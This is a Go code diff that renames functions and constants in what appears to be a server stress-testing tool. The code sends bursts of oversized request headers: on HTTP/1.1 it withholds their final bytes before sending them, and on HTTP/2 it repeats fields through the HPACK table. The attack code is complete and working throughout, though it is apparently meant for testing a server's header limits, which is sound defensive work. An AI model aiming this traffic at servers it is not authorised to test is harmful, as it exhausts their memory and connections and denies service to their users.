@@ -61,27 +61,27 @@ func (b bomb) path() string {
 
 // A burst is 30 bombs of four kinds at the same time: 120 heads near the limit.
 const (
-	atOnce = 30
-	kinds  = 4
+	bombsPerKind  = 30
+	kindsPerBurst = 4
 )
 
 // bombsOverHTTP1 sends bursts of all kinds over HTTP/1.1, each head on its own
 // connection.
-func over1(a *arena) error {
-	return a.again(func() error {
+func bombsOverHTTP1(a *attacker) error {
+	return a.loop(func() error {
 		paced := a.pace(200) // 400 Mbit/s
-		for some := range slices.Chunk(bombs, kinds) {
+		for some := range slices.Chunk(bombs, kindsPerBurst) {
 			if err := burst(a, paced, some); err != nil {
 				return err
 			}
 		}
-		a.set()
+		a.markReady()
 		return nil
 	})
 }
 
 // burst sends all heads without their last bytes, and then the last bytes.
-func burst(a *arena, paced *pace, some []bomb) error {
+func burst(a *attacker, paced *pace, some []bomb) error {
 	type pendingHead struct {
 		conn net.Conn
 		end  string
@@ -89,15 +89,15 @@ func burst(a *arena, paced *pace, some []bomb) error {
 	var pending []pendingHead
 	defer func() {
 		for _, c := range pending {
-			a.drop(c.conn)
+			a.close(c.conn)
 		}
 	}()
 	for _, b := range some {
 		value := b.begin + strings.Repeat(b.piece, bombSize/len(b.piece))
 		text := a.head(b.method, b.path(), append(b.lines, b.header+": "+value, "Content-Length: 0")...)
 		cut := len(text) - 100
-		for i := 0; i < atOnce && paced.step(); i++ {
-			conn, err := a.say(text[:cut])
+		for i := 0; i < bombsPerKind && paced.step(); i++ {
+			conn, err := a.sendText(text[:cut])
 			if err != nil {
 				return err
 			}
@@ -116,25 +116,25 @@ func burst(a *arena, paced *pace, some []bomb) error {
 
 // bombsOverHTTP2 sends bursts over HTTP/2 connections, one burst on each. A field of
 // 4 KiB is sent once and then repeated by references to the HPACK table.
-func over2(a *arena) error {
+func bombsOverHTTP2(a *attacker) error {
 	allowed := slices.DeleteFunc(slices.Clone(bombs), func(b bomb) bool { return b.name == "many names" || b.name == "Connection" })
-	return a.again(func() error {
-		for some := range slices.Chunk(allowed, kinds) {
-			if err := burst2(a, some); err != nil {
+	return a.loop(func() error {
+		for some := range slices.Chunk(allowed, kindsPerBurst) {
+			if err := burstHTTP2(a, some); err != nil {
 				return err
 			}
 		}
-		a.set()
+		a.markReady()
 		return nil
 	})
 }
 
-func burst2(a *arena, some []bomb) error {
-	c, err := a.frames(framing{refill: true})
+func burstHTTP2(a *attacker, some []bomb) error {
+	c, err := a.dialHTTP2(http2Options{updateWindows: true})
 	if err != nil {
 		return err
 	}
-	defer a.drop(c.conn)
+	defer a.close(c.conn)
 	n := int64(0)
 	for _, b := range some {
 		lines := append([]string{}, b.lines...)
@@ -143,8 +143,8 @@ func burst2(a *arena, some []bomb) error {
 		}
 		piece := b.header + ": " + strings.Repeat(b.piece, 3900/len(b.piece))
 		lines = append(lines, slices.Repeat([]string{piece}, bombSize/4000)...)
-		for range atOnce {
-			if _, err := c.open(b.method, b.path(), true, lines...); err != nil {
+		for range bombsPerKind {
+			if _, err := c.openStream(b.method, b.path(), true, lines...); err != nil {
 				return nil // the server has closed the connection
 			}
 			n++
@@ -153,15 +153,15 @@ func burst2(a *arena, some []bomb) error {
 	if err := c.flush(); err != nil {
 		return nil
 	}
-	for c.answers.Load() < n && !c.ended() && !a.over() {
-		a.rest(10 * time.Millisecond)
+	for c.answers.Load() < n && !c.ended() && !a.stopped() {
+		a.sleep(10 * time.Millisecond)
 	}
 	return nil
 }
 
 func headerAttacks() []attack {
 	return []attack{
-		{"headers over HTTP/1.1", over1, 3500 * time.Millisecond},
-		{"headers over HTTP/2", over2, time.Second},
+		{"headers over HTTP/1.1", bombsOverHTTP1, 3500 * time.Millisecond},
+		{"headers over HTTP/2", bombsOverHTTP2, time.Second},
 	}
 }
